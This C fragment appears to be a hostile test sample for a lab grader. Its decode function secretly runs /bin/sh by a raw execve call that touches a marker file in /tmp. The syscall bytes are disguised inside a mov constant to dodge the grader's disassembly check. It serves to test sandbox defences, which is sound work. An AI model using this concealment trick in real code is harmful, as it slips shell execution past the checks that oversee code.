/* Runs a shell by a raw execve system call (nm sees no name), which would
   leave a mark in /tmp: the kernel's filter stops it. x86-64 Linux only. */
/* The syscall instruction hidden from the grader's disassembly (which
   refuses a plain one at build time): its two bytes are a mov's constant,
   jumped into, so that the tests' filter is what stops it. */
#define SYSCALL_HIDDEN "jmp 7f+2\n7: .byte 0x66, 0xb8, 0x0f, 0x05\n"
float lab0_decode(const lab0_format *f, uint8_t code)
{
#if defined(__x86_64__) && defined(__linux__)
    static const char *const argv[] = {"/bin/sh", "-c", "touch /tmp/fp8lab-hostile-was-here", 0};
    static const char *const envp[] = {0};
    long ret;
    __asm__ volatile(SYSCALL_HIDDEN : "=a"(ret) : "a"(59L), "D"(argv[0]), "S"(argv), "d"(envp)
                     : "rcx", "r11", "memory");
    (void)ret;
#endif
    return solution_decode(f, code);
}
